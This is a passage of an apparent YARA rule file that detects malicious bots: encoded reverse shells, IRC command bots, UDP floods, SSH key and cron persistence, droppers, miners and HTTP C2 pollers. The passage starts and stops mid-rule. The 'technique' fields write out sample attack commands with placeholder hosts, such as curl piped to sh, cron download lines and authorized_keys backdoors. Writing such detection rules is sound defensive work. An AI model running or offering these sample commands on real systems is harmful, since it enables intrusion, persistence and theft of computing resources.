        $b3 = /\b(xxd\s{1,4}-r\s{1,4}-p|xxd\s{1,4}-p\s{1,4}-r|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d|gunzip\s{1,4}-c|gzip\s{1,4}-dc?|zcat)\b[^\n|]{0,40}\|\s{0,4}(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
        // text reversed back and run: echo '...' | rev | sh
        $b5 = /\|\s{0,4}rev\s{0,4}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
        $b4 = /\bprintf\s{1,4}(--\s{1,4})?['"](\\x[0-9a-fA-F]{2}|\\[0-7]{3}){8}[^\n]{0,4000}\|\s{0,4}(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
        $ev = /\b(eval|sh -c|bash -c|exec) ["']?\$\(/
    condition:
        filesize < 2MB and not hs_doc_file and ($b1 or $b3 or $b4 or $b5 or ($b2 and $ev))
}

/* A decode-and-run wrapper whose base64 text, read as it is, spells out a
 * reverse shell, an IRC bot or an SMTP loop: YARA's base64 modifier finds
 * the words inside the blob in all three alignments. */
rule bot_encoded_backdoor_payload : bot obfuscation
{
    meta:
        description = "Base64-wrapped Perl/Python/shell/PHP payload run by eval/exec whose decoded text is a reverse shell, bot or spam loop"
        severity = "critical"
        technique = "eval(decode_base64('...')) / exec(base64.b64decode('...')) / echo ... | base64 -d | sh, payload: socket + dup + shell, IRC, SMTP"
        seen = "bediger4000,nikicat,shipcod3,tennc"
    strings:
        $w1 = /\beval\s{0,4}\(?\s{0,4}(MIME::Base64::)?decode_base64\s{0,4}\(/
        $w2 = /\b(exec|eval)\s{0,2}\(\s{0,2}(base64\.b64decode|base64\.decodebytes|base64\.decodestring|codecs\.decode|__import__\s{0,2}\(\s{0,2}['"]base64['"]\s{0,2}\)\s{0,2}\.\s{0,2}b64decode|compile\s{0,2}\(\s{0,2}base64\.b64decode)/
        $w3 = /\bbase64\s{1,4}(-d|--decode|-D|-di)\b[^\n|]{0,40}\|\s{0,4}(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
        $w4 = /\b(eval|assert)\s{0,4}\(\s{0,4}base64_decode\s{0,4}\(/
        $w5 = /\|\s{0,4}base64\s{1,4}(-d|--decode|-D|-di)\s{0,4}\)/
        // Ruby and Node.js wrappers
        $w6 = /\beval\s{0,2}\(?\s{0,2}(::)?Base64\s{0,2}\.\s{0,2}(strict_|urlsafe_)?decode64\b/
        $wn = /\b(eval|Function|runInThisContext|runInNewContext)\s{0,2}\(\s{0,2}(new\s{1,2})?Buffer\s{0,2}(\.\s{0,2}from\s{0,2})?\(/
        $t21 = "child_process" base64
        $t22 = "TCPSocket" base64
        $t23 = "net.Socket" base64
        $t1 = "/bin/sh" base64
        $t2 = "/bin/bash" base64
        $t3 = "dup2(" base64
        $t4 = "PRIVMSG" base64
        $t5 = "IO::Socket" base64
        $t6 = "socket.socket" base64
        $t7 = "/dev/tcp/" base64
        $t8 = "pty.spawn" base64
        $t9 = "open(STDIN" base64
        $t10 = "RCPT TO" base64
        $t11 = "fileno()" base64
        $t12 = "Net::SMTP" base64
        $t13 = "smtplib" base64
        $t14 = "subprocess" base64
        $t15 = "fsockopen" base64
        $t16 = "connect(" base64
        $t17 = "sh -i" base64
        $t18 = "NICK " base64
        $t19 = "sendmail(" base64
        $t20 = "SOCK_STREAM" base64
    condition:
        filesize < 2MB and 2 of ($t*) and (
            (not hs_doc_file and any of ($w*))
            or ($wn and not extension matches /^(md|markdown|rst|txt|html?|json|xml|po|pot|yml|yaml)$/)
        )
}

/* ---- round 2 (issue 12): written from the techniques, seen = "none" ------
 * The rules below were written from technique descriptions and the invented
 * variants of tests/eval/botgen.py only, without opening the corpus bots or
 * the blind held-out set. docs/script-rules.md ("Round 2") explains each. */

/* An IRC client that runs what the channel orders: registration (NICK and
 * USER), a read loop on the connection, and after a PRIVMSG is parsed a
 * command run with a non-literal argument (shell_exec(trim($m[3])),
 * system(implode(...)), subprocess.getoutput(" ".join(a))), a datagram
 * flood or a download to a file. bot_irc_script wants the argument to start
 * with a variable and the attack words; this one reads the order in the code:
 * PRIVMSG first, then the action. A notifier that runs `git log` before it
 * posts has its command ahead of any PRIVMSG and a literal argument. */
rule bot_irc_command_dispatch : bot
{
    meta:
        description = "IRC bot: registers, reads the connection in a loop and, after parsing a PRIVMSG, runs a command built from it, floods or downloads"
        severity = "high"
        technique = "fsockopen(irc) + NICK/USER + while(fgets) + preg_match('/PRIVMSG .* :!(\\w+) (.*)/') -> shell_exec(trim($m[2])) / fsockopen('udp://'.$t) / file_put_contents($f, file_get_contents($u)); the same in Perl/Python"
        seen = "none"
    strings:
        $nick = /(\\[nr]|\b)NICK\s{1,4}["'$.%{\w]/
        $user = /(\\[nr]|\b)USER\s{1,4}["'$.%{\w]/
        $pm = "PRIVMSG" ascii
        // the connection read line by line
        $rd = /\b(fgets|socket_read|stream_get_line|socket_recv|readline)\s{0,2}\(|\.(recv|readline|makefile)\s{0,2}\(|->\s{0,2}getline\b/
        $rd2 = /\bwhile\s{0,4}\(\s{0,4}(defined\s{0,4}\(?\s{0,4})?(my\s{1,4})?(\$\w{1,30}\s{0,4}=\s{0,4})?<\s{0,2}\$?\w{1,30}\s{0,2}>/
        // a command run on something that is not a literal (or a literal joined to more)
        $x1 = /\b(system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s{0,4}\(\s{0,4}(["'][^"'\n]{0,60}["']\s{0,4}[.,]\s{0,4})?[^"'\s)\[]/
        // Perl and PHP interpolate variables in double quotes: system("$c 2>&1"), system $c
        $x5 = /\b(system|exec|shell_exec|passthru|popen)\s{0,4}\(?\s{0,4}"[^"\n]{0,40}\$\w|\b(system|exec)\s{1,4}\$\w/
        $x2 = "`$" ascii
        $x3 = /\b(os\.(popen|system)|subprocess\.(getoutput|getstatusoutput|check_output|Popen|run|call)|commands\.getoutput)\s{0,2}\(\s{0,2}(["'][^"'\n]{0,60}["']\s{0,4}[+%.]\s{0,4})?[^"'\s)\[]/
        $x4 = /\bqx\s{0,2}[\(\{\/|!][^\n]{0,40}\$\w/
        // a datagram flood or a download ordered from the channel
        $a1 = /udp:\/\/["'$.{]/
        $a2 = "SOCK_DGRAM" ascii
        $a3 = /\bfile_put_contents\s{0,2}\([^;\n]{1,80}file_get_contents\s{0,2}\(\s{0,2}\$/
        $a4 = /\b(urlretrieve|getstore)\s{0,2}\(\s{0,2}[a-zA-Z_$]/
        $a5 = /\bcopy\s{0,2}\(\s{0,2}\$\w{1,30}(\[[^\]]{1,20}\])?\s{0,2},\s{0,2}\$/
        // or the order dispatched to a handler by name ('cmd_' . $m[2]), the
        // handler running a command somewhere in the file
        $dy = /\bcall_user_func(_array)?\s{0,2}\(\s{0,2}(array\s{0,2}\(|\[)?\s{0,2}\$this\s{0,2},\s{0,2}['"]\w{1,20}['"]\s{0,2}\.|\$this\s{0,2}->\s{0,2}\{\s{0,2}['"]\w{1,20}['"]\s{0,2}\.|\bgetattr\s{0,2}\(\s{0,2}self\s{0,2},\s{0,2}['"]\w{1,20}['"]\s{0,2}\+/
        // round 8: a line the user typed (a terminal client's /exec)
        $kb = /\binput\s{0,2}\(/
    condition:
        filesize < 2MB and not hs_doc_file and hs_raw_transport and $nick and $user and ($rd or $rd2) and (
            for any i in (1..#pm) : ( for any of ($x*, $a*) : ( $ in (@pm[i] .. @pm[i] + 1500) ) )
            or (any of ($x*, $a*) and for any i in (1..#pm) : ( $dy in (@pm[i] .. @pm[i] + 1500) ) )
        ) and
        // round 8: the only variable command follows input() (see bot_irc_script)
        not (#kb > 0 and not any of ($x1, $x2, $x4, $x5, $a*) and
             for all i in (1..#x3) : ( for any j in (1..#kb) : ( @x3[i] > @kb[j] and @x3[i] - @kb[j] < 400 ) ))
}

/* A UDP flood: a datagram socket (udp://, SOCK_DGRAM, SOL_UDP, Proto udp)
 * written to in a loop that runs to a deadline (time() + the duration) with
 * the target from the command line or the request, and no pause in the loop.
 * A metrics agent sends one datagram every few seconds to a fixed collector
 * (it sleeps); a health check sends one query per server (no deadline). */
rule bot_udp_flood_loop : bot
{
    meta:
        description = "UDP flooder: datagrams sent in a loop until a deadline to a target taken from argv or the request"
        severity = "high"
        technique = "$end = time() + $_GET['time']; while (time() < $end) fwrite(fsockopen('udp://'.$h, rand()), $pk); Perl SOCK_DGRAM send until time + $secs; Python sendto until time.time() + int(argv[3])"
        seen = "none,train9"
    strings:
        $d1 = /udp:\/\/["'$.{]/
        $d2 = "SOCK_DGRAM" ascii
        $d3 = "SOL_UDP" ascii
        $d4 = /Proto\s{0,4}=>\s{0,4}['"]udp['"]/
        $d5 = /getprotobyname\s{0,2}\(\s{0,2}['"]udp['"]/
        // (train9) Ruby
        $d6 = "UDPSocket.new" ascii
        // the target or the duration from outside
        $in = /\$_(GET|POST|REQUEST|COOKIE)\b|\$argv\s{0,2}\[|\bsys\.argv\b|@ARGV|\$ARGV\s{0,2}\[|\bshift\s{0,2}(;|\|\||\)|or\b)|\binput\s{0,2}\(\s{0,2}['"]|\bargparse\b|\bARGV\s{0,2}\[/
        // the deadline: now + a duration, or now - start compared with one
        $dl1 = /\b(time\s{0,2}(\(\s{0,2}\))?|Time\.now)\s{0,4}\+\s{0,4}[$(a-zA-Z0-9]/
        $dl2 = /\btime\s{0,2}\(\s{0,2}\)\s{0,4}-\s{0,4}\$?[a-zA-Z_]\w{0,30}\s{0,4}<\s{0,4}[$(a-zA-Z0-9]/
        $lp = /\b(while|for|until)\b\s{0,2}[(\w]/
        $sd = /\b(fwrite|fputs|socket_sendto|sendto|send)\s{0,2}\(|->\s{0,2}send\s{0,2}\(|\.send(to)?\s{0,2}\(/
        $sl = /\b(u?sleep|time\.sleep|select)\s{0,2}\(|\bsleep\s{1,4}[0-9$]/
        // round 7: Perl's statement modifier: $s->send($pk) while time < $end;
        $pf = /\bsend\s{0,2}\([^\n;]{0,200}\)\s{0,2}(while|until)\s{1,4}(time|Time\.now|\$\w{1,30}\s{0,2}[<>])/
    condition:
        filesize < 1MB and not hs_doc_file and any of ($d*) and $in and ( ($pf and $dl1) or
            for any i in (1..#dl1) : ( for any j in (1..#lp) : ( @lp[j] > @dl1[i] and @lp[j] < @dl1[i] + 400 and
                for any k in (1..#sd) : ( @sd[k] > @lp[j] and @sd[k] < @lp[j] + 500 and
                    not for any s in (1..#sl) : ( @sl[s] > @lp[j] and @sl[s] < @sd[k] + 300 ) ) ) )
            or for any j in (1..#dl2) : (
                for any k in (1..#sd) : ( @sd[k] > @dl2[j] and @sd[k] < @dl2[j] + 500 and
                    not for any s in (1..#sl) : ( @sl[s] > @dl2[j] and @sl[s] < @sd[k] + 300 ) ) )
        )
}

/* An SSH key planted for the way back in: a key appended to (or written
 * into) authorized_keys from code, where the key is a literal in the script,
 * comes from the request or from a download, or the file is locked with
 * chattr. ssh-copy-id-like tools append a key file the admin names; an
 * auditor only reads the file. */
rule bot_sshkey_persistence : bot
{
    meta:
        description = "Script appending an SSH public key (embedded, from the request or downloaded) to authorized_keys, or locking the file with chattr"
        severity = "high"
        technique = "echo 'ssh-rsa AAAA...' >> ~/.ssh/authorized_keys; chattr +i; file_put_contents($h.'/.ssh/authorized_keys', KEY, FILE_APPEND); open(..., 'a').write(KEY); curl URL >> authorized_keys"
        seen = "none,train6"
    strings:
        $ak = "authorized_keys" ascii
        // appended or written
        $ap1 = /(>>|\btee\s{1,4}(-a|--append)\s)\s{0,4}["']?[^\n;|&]{0,100}authorized_keys/
        $ap2 = /authorized_keys[^\n]{0,1000}\bFILE_APPEND\b/
        $ap3 = /authorized_keys['"]?\s{0,4}\)?\s{0,4},\s{0,4}["'](a|a\+|ab|w|wb|w\+|>>|>)["']/
        $ap4 = /\bopen\s{0,2}\(\s{0,2}(my\s{1,4})?\$?\w{0,30}\s{0,2},\s{0,4}["'](>>|\+>>|>)["']\s{0,4},\s{0,4}\$\w{1,30}/
        $ap5 = /\bopen\s{0,2}\(\s{0,2}[^\n,]{1,100},\s{0,4}["'](a|ab|a\+)["']\s{0,2}\)/
        // the key: embedded, from the request, downloaded, or the file locked
        $k1 = /(ssh-(rsa|ed25519|dss)|ecdsa-sha2-nistp(256|384|521)|sk-ssh-ed25519@openssh\.com) AAAA[0-9A-Za-z+\/]{40}/
        $k2 = /\$_(GET|POST|REQUEST|COOKIE)\s{0,2}\[/
        $k3 = /\b(curl|wget)\s[^\n|;]{1,200}(>>|\|\s{0,4}tee\s{1,4}-a)\s{0,4}["']?[^\n;|&]{0,100}authorized_keys/
        $k4 = /\bchattr\s{1,4}[-+][ia]{1,2}\s[^\n;|&]{0,100}authorized_keys/
        // a key downloaded in Python, PHP or Perl; the file locked with chattr from a list
        $k5 = /\burlopen\s{0,2}\(|\brequests\.get\s{0,2}\(|\bfile_get_contents\s{0,2}\(\s{0,2}['"](https?|ftp):|\bLWP::Simple\b|\bHTTP::Tiny\b/
        $k6 = /['"]chattr['"]\s{0,2},\s{0,2}['"][-+][ia]/
        // train6: an embedded key alone is also how an owner adds a deploy key; it
        // takes a sign of hiding or reach: the change's time forged (touch -r),
        // other accounts' or root's files, a beacon home, a web script, history wiped
        $hs1 = /\btouch\s{1,4}(-[acm]{1,3}\s{1,4})?-[rtd]\s/
        $hs2 = "/root/.ssh" ascii
        $hs3 = /\/home\d?\/\*|\/etc\/passwd|\$\w{1,30}\s{0,2}\.\s{0,2}['"]\/\.ssh\//
        $hs4 = /\b(curl|wget)\s[^\n]{0,200}\$\(\s{0,2}(hostname|id|whoami|uname)\b/
        $hs5 = /<\?php|\bhistory\s{1,4}-c\b|\bunset\s{1,4}HISTFILE\b/
        $hs6 = /\bos\.path\.join\s{0,2}\(\s{0,2}[a-z_]\w{0,30}\s{0,2},\s{0,2}['"](\.ssh\/)?authorized_keys['"]/
    condition:
        filesize < 1MB and not hs_doc_file and $ak and
        (any of ($ap1, $ap2, $ap3) or
         for any i in (1..#ak) : ( for any of ($ap4, $ap5) : ( $ in (@ak[i] - 40 .. @ak[i] + 400) ) )) and
        (any of ($k2, $k3, $k4, $k5, $k6) or
         // the script hides itself (a dot-file name: /tmp/.a.py) as the key's sign of hiding
         ($k1 and (any of ($hs*) or filename matches /^\.[^.\/]/)))
}

/* A scheduled line that restarts a downloader or a hidden program, written
 * to a crontab (crontab -, crontab FILE, /etc/cron.d, the spool, from any
 * language). The schedule, and in the same line what it runs: a fetch piped
 * to a shell, a temp dir, a dot path. A package's cron.d file running its
 * own program, a backup line and a health-check ping (curl without a shell)
 * do not match. */
rule bot_cron_install_payload : bot
{
    meta:
        description = "Script installing a crontab or cron.d line that runs a fetched, temp-dir or hidden program"
        severity = "high"
        technique = "crontab -l | { cat; echo '*/5 * * * * curl URL | sh'; } | crontab -; echo '@reboot /tmp/.x' >> /var/spool/cron/crontabs/u; cat > /etc/cron.d/x; subprocess.run(['crontab','-'], input=...)"
        seen = "none"
    strings:
        // the crontab it goes into
        $c = /\bcrontab\s{1,4}(-u\s{1,4}(\$\([^)\n]{1,30}\)|[\w$.{}-]{1,32})\s{1,4})?(-[\s"')\n;&|]|-$|["']?[\/$~][^\s-]|[\w.\/-]{1,60}\s{0,2}(["';)&|\n]|$))|['"]crontab['"]\s{0,2},\s{0,2}['"]-['"]|\/etc\/cron\.(d|hourly|daily)\/|\/var\/spool\/cron\/|\/etc\/crontab\b/
        // a schedule ...
        $sc1 = "@reboot" ascii
        $sc2 = "@hourly" ascii
        $sc3 = "* * *" ascii
        $sc4 = /\*\/[0-9]{1,2} [0-9*]/
        // ... running a fetch into a shell, something in a temp dir or a dot path
        $pl = /\/tmp\/|\/var\/tmp\/|\/dev\/shm\b|\/\.[\w-]{1,30}(\s|["';&>)|]|$)|\b(curl|wget|fetch|lwp-download|GET)\s[^\n|]{1,200}\|\s{0,4}((ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})\b|\b(curl|wget|fetch|lwp-download)\s[^\n]{1,200}(;|&&)\s{0,4}((ba|da)?sh\s|perl\s|python[0-9.]{0,4}\s|php\s|chmod\s|\.\/|~\/|\$HOME\/)|\bfile_get_contents\s{0,2}\(\s{0,2}\\?['"](https?|ftp):/
    condition:
        filesize < 1MB and not hs_doc_file and
        for any of ($sc*) : ( for any i in (1..#) : (
            $pl in (@[i] .. @[i] + 250) and $c in (@[i] - 600 .. @[i] + 600) ) )
}

/* Download and run, in any language and over several lines: a fetch, a temp
 * dir or /dev/shm, the file made executable and started in the background
 * (nohup, setsid, &, Popen, output to /dev/null), and no checksum or
 * signature check in the script. bot_fetch_then_exec reads the shell
 * one-liners; this one the steps wherever they are within a few lines. A
 * deployment script that verifies a checksum before it installs does not
 * match. */
rule bot_dropper_tmp_exec : bot
{
    meta:
        description = "Dropper: downloads a program into a temp dir, makes it executable and starts it detached (any language), without verifying it"
        severity = "high"
        technique = "F=/tmp/.x; wget -q $U -O $F; chmod +x $F; nohup $F &; rm -f $F | file_put_contents('/tmp/x', file_get_contents(URL)); chmod(..., 0755); exec('... &') | urlopen + os.chmod + Popen"
        seen = "none,train6"
    strings:
        $f = /\b(wget|curl|fetch|tftp|ftpget|lwp-download)\s{1,4}[-"'$\w]|\b(file_get_contents|copy|fopen|curl_init)\s{0,2}\(\s{0,2}(['"](https?|ftp):\/\/|\$\w{1,30}\s{0,2}[,)])|\b(urlopen|urlretrieve|getstore|mirror)\s{0,2}\(|\brequests\.get\s{0,2}\(|:content_file\b|\bhttps?\.get\s{0,2}\(\s{0,2}['"`]|\bLWP::UserAgent\b|\bHTTP::Tiny\b|\bLWP::Simple\b/
        $tm = /\/(tmp|var\/tmp|dev\/shm)\b|\bsys_get_temp_dir\s{0,2}\(|\btempfile\.|\bmktemp\b|\btmpdir\s{0,2}\(\s{0,2}\)/
        // shell chmod +x / 755, PHP chmod($f, 0755), Perl chmod 0755, $f, os.chmod(p, 0o755 | S_IEXEC)
        $cx = /\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\b|\bchmod\s{0,2}\(\s{0,2}[^,\n]{1,80},\s{0,2}0?[0-7]?[1357][0-7]{2}\s{0,2}\)|\bos\.chmod\s{0,2}\([^\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|S_IRWX[UGO]|\b(493|511|365)\b)|\bchmodSync\s{0,2}\([^\n]{1,80}(0o[0-7]?[1357][0-7]{2}\b|\b(493|511)\b)|\b(createWriteStream|writeFile(Sync)?)\s{0,2}\([^\n)]{1,120}\bmode\s{0,2}:\s{0,2}(0o[0-7]?[1357][0-7]{2}\b|(448|493|511)\b)/
        // started detached: nohup, setsid, Popen, output thrown away, a trailing &
        $rn1 = /\b(nohup|setsid)\s|\bPopen\s{0,2}\(|\bstart_new_session\b|>\s{0,2}\/dev\/null|\bdetached\s{0,2}:\s{0,2}true\b/
        $rn2 = " &\n" ascii
        $rn3 = " &'" ascii
        $rn4 = " &\"" ascii
        // or simply run: the saved path at the start of a line, or a command
        // function on a variable (PHP, Python)
        $rn5 = /(\n|;|&&)\s{0,8}(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?(\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)[\w.\/-]{1,80}/
        // the variable just made executable, run on the next command: chmod +x "$F"; "$F"
        $rn7 = /\bchmod\s{1,4}[^\n;&|]{1,40}(\n|;|&&)\s{0,8}(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?["']?\$\{?\w{1,30}\}?["']?\s{0,4}(\n|;|&|>|$)/
        // or an interpreter started on the saved file (no exec bit needed), detached or removed after
        $ip = /\b(perl|python[0-9.]{0,4}|php[0-9.]{0,3}|ruby|(ba|da)?sh)\s{1,4}["']?(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/
        $rm = /\brm\s{1,4}-[rf]{1,2}\s|\bunlink\s{0,2}\(|\bos\.(remove|unlink)\s{0,2}\(/
        $rn6 = /\b(system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s{0,2}\(\s{0,2}(\$\w{1,30}\s{0,2}[),.]|['"](\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/))|\bsubprocess\.(call|run|check_call|check_output)\s{0,2}\(\s{0,2}\[?\s{0,2}([a-zA-Z_]|['"](\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/))|\bos\.(system|exec\w{1,3}|spawn\w{1,3})\s{0,2}\(\s{0,2}[a-zA-Z_]/
        // a verified download is a deployment step
        $ck = /\b(sha(1|224|256|384|512)sum|shasum|md5sum|b2sum|hashlib|hash_file|Digest::SHA|minisign|signify)\b|\bgpg\s{1,4}(--verify|--batch\s{1,4}--verify)\b|\bopenssl\s{1,4}dgst\b|\bcosign\s{1,4}verify\b/
    condition:
        filesize < 1MB and not hs_doc_file and not $ck and
        for any i in (1..#f) : (
            $tm in (@f[i] - 300 .. @f[i] + 400) and (
                ($cx in (@f[i] .. @f[i] + 800) and for any of ($rn*) : ( $ in (@f[i] .. @f[i] + 1200) ))
                or ($ip in (@f[i] .. @f[i] + 800) and (for any of ($rn1, $rn2, $rn3, $rn4) : ( $ in (@f[i] .. @f[i] + 1200) ) or
                    $rm in (@f[i] .. @f[i] + 1200))) ) )
}

/* A coin miner started from PHP, Python or Perl code (bot_miner_launcher
 * reads shell): a pool address and a wallet handed to a program the code
 * starts. */
rule bot_miner_launch_code : bot
{
    meta:
        description = "Coin miner started from PHP/Python/Perl code: a mining pool and a wallet passed to a started program"
        severity = "high"
        technique = "exec('nohup ./x -o stratum+tcp://pool:3333 -u WALLET &'); subprocess.Popen(['./x', '-o', 'pool:3333', '-u', WALLET]); --url=POOL --user=WALLET"
        seen = "none"
    strings:
        $p1 = /stratum[0-9]?\+(tcp|ssl|tls):\/\//
        $p2 = /['"]-o['"]\s{0,2},\s{0,2}['"][\w.\/+-]{1,80}:[0-9]{2,5}['"]/
        $p3 = /\s-o\s{1,4}['"]?[\w.\/+-]{1,80}:[0-9]{2,5}\b/
        $p4 = /--url[= ]['"]?[\w.\/+-]{1,80}:[0-9]{2,5}\b/
        // a wallet: a long address after the user option
        $w1 = /(\s-u\s{1,4}|['"]-u['"]\s{0,2},\s{0,2}|--user[= ])['"]?[0-9A-Za-z]{40}/
        // or the wallet in a variable: ' -u ' . $w, "-u", wallet
        $w2 = /\s-u\s{1,4}['"]\s{0,2}[.+]\s{0,2}\$?[a-zA-Z_]|['"]-u['"]\s{0,2},\s{0,2}\$?[a-zA-Z_]/
        $x1 = /\b(exec|shell_exec|system|passthru|popen|proc_open)\s{0,2}\(/
        $x2 = /\bsubprocess\.\w{1,16}\s{0,2}\(|\bos\.(system|popen|spawn\w{0,3}|exec\w{0,3})\s{0,2}\(/
    condition:
        filesize < 1MB and not hs_doc_file and any of ($p*) and any of ($w*) and any of ($x*)
}

/* A crontab itself (a file of schedule lines, dropped for `crontab FILE` or
 * into a spool) whose line runs a fetch into a shell, a temp-dir or a dot
 * path: the same payload test as bot_cron_install_payload, for a file that
 * starts with a schedule line (after comments and variable lines). */
rule bot_crontab_file_payload : bot
{
    meta:
        description = "Crontab file whose schedule line runs a fetched, temp-dir or hidden program"
        severity = "high"
        technique = "*/5 * * * * curl -fsSL http://H/s | sh; @reboot /tmp/.x; * * * * * cd /dev/shm && ./.k, as a file"
        seen = "none"
    strings:
        // A schedule at the start of a line (five fields or an @keyword),
        // the user field of a system crontab, then the program the line runs:
        // a temp-dir or hidden path, directly or through nohup/a shell/an
        // interpreter, or after a cd into a temp dir. A temp path elsewhere on
        // the line (a log: >> /tmp/cron.log, a lock: flock /tmp/x.lock, a
        // TMPDIR=) is what legitimate crontabs do, and is not that.
        $run = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily|weekly|monthly|midnight|yearly|annually)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}([a-z_][a-z0-9_.-]{0,31}[ \t]{1,8})?((nohup|exec|setsid|nice|(ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})[ \t]{1,4}){0,2}((\/tmp|\/var\/tmp|\/dev\/shm)\/[^\s;|&>]{1,100}|[^\s;|&>'"]{0,100}\/\.[\w-]{1,30})([ \t;&|>]|\n|$)/
        $cd = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily|weekly|monthly|midnight|yearly|annually)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}([a-z_][a-z0-9_.-]{0,31}[ \t]{1,8})?cd[ \t]{1,4}(\/tmp|\/var\/tmp|\/dev\/shm)[^\s;&|]{0,100}[ \t]{0,4}(&&|;)[ \t]{0,4}(\.\/|nohup |(ba|da|z)?sh |perl |python)/
        // a download piped into an interpreter
        $pipe = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily|weekly|monthly|midnight|yearly|annually)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}[^\n]{0,200}\b(curl|wget|fetch)\s[^\n|]{1,200}\|\s{0,4}((ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})\b/
        $tag = "<?" ascii
        $env = /(MAILTO|SHELL|PATH|HOME|CRON_TZ|TZ|LANG)=/
    condition:
        filesize < 16KB and not hs_doc_file and not hs_shebang and not $tag and
        not hs_lang_shell and not hs_lang_perl and not hs_lang_python and ($run or $cd or $pipe) and
        // the file starts with a comment, a schedule ('#', '@', '*', a digit)
        // or one of cron's variables (MAILTO=...)
        (uint8(0) == 0x23 or uint8(0) == 0x40 or uint8(0) == 0x2a or (uint8(0) >= 0x30 and uint8(0) <= 0x39) or $env at 0)
}

/* ---- round 3 (seen = "none"): HTTP pollers, preload rootkits, stagers, Basic-auth guessing ---- */

/* A bot whose "channel" is a web server: it fetches its order (a JSON task,
 * a plain line), runs it as a command and posts the output back, in a loop
 * that sleeps between beacons. PHP, Python and Perl (LWP, or GET written to a
 * raw socket). A Perl poller that renames itself ($0 = ...) and forks needs
 * no post-back. Monitoring agents and deploy pollers run their own fixed
 * commands (a literal, an argument list without a shell): no match. */
rule bot_http_c2_poll : bot
{
    meta:
        description = "Bot polling an HTTP C2: fetches a command, runs it, posts the output back (or hides as a renamed daemon), in a sleeping loop"
        severity = "high"
        technique = "while(1){ $j = json_decode(file_get_contents(C2)); $o = shell_exec($j['cmd']); POST $o; sleep(N); } | requests.get(...).json() + subprocess.run(c, shell=True) + requests.post + time.sleep | LWP get + `$c` + $ua->post / $0 = 'httpd' + fork"
        seen = "none,train6"
    strings:
        // the fetch (PHP, Python, Perl LWP, or GET written to a raw socket)
        $g = /\b(file_get_contents|fopen)\s{0,2}\(\s{0,2}(\$\w{1,30}|['"]https?:\/\/)|\bcurl_exec\s{0,2}\(|\brequests\.(get|post)\s{0,2}\(|\burlopen\s{0,2}\(|->\s{0,2}(get|request)\s{0,2}\(\s{0,2}["$]|\bLWP::Simple::get\s{0,2}\(|\bget\s{0,2}\(\s{0,2}["']https?:|\b(print|send|sendall|syswrite)\s{0,2}\(?\s{0,2}[$\w.{}]{1,30}\s{0,2},?\s{0,2}b?["']GET \//
        // the order run as a command: a non-literal argument (PHP, Python, Perl)
        $r = /\b(shell_exec|system|passthru|popen|proc_open|exec)\s{0,2}\(\s{0,2}\$\w{1,30}(\[|->|\s{0,2}[),.])|\bsubprocess\.(run|call|check_output|check_call|Popen)\s{0,2}\(\s{0,2}[a-zA-Z_][^\n]{0,120}\bshell\s{0,2}=\s{0,2}True|\b(subprocess\.(getoutput|getstatusoutput)|commands\.getoutput|os\.(popen|system))\s{0,2}\(\s{0,2}[a-zA-Z_]|`\$\w{1,30}( 2>&1)?`|\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w{1,30}|\bsystem\s{0,2}\(?\s{0,2}\$\w{1,30}\s{0,2}[);]/
        // the output posted back
        $p = /['"]method['"]\s{0,2}=>\s{0,2}['"]POST['"]|\bCURLOPT_POSTFIELDS\b|\brequests\.post\s{0,2}\(|\b(Request|urlopen)\s{0,2}\([^\n]{0,200}(\bdata\s{0,2}=|,\s{0,2}(urllib\.(parse\.)?)?urlencode\s{0,2}\()|\bRequest\s{0,2}\(\s{0,2}[\w'"][^,\n]{0,120},\s{0,2}(json\.dumps\s{0,2}\(|[a-zA-Z_]\w{0,30}\s{0,2}[,)]|b['"])|->\s{0,2}post(_form)?\s{0,2}\(|["']POST \/[^\n]{0,60}HTTP\/1/
        // a beacon loop (round 8: or Telegram's long poll, which waits by itself)
        $tg = "/getUpdates" ascii
        $sl = /\b(u?sleep|time\.sleep)\s{0,2}[\( ]/
        $lp = /\bwhile\s{0,2}\(\s{0,2}(1|true|TRUE|True)\s{0,2}\)|\bfor\s{0,2}\(\s{0,2};\s{0,2};\s{0,2}\)|\bwhile\s{1,2}(True|1)\s{0,2}:/
        // or a Perl daemon with a borrowed name
        $n0 = /\$0\s{0,4}=\s{0,4}["']/
        $fk = /\bfork\b/
    condition:
        filesize < 512KB and not hs_doc_file and ($sl or $tg) and $lp and
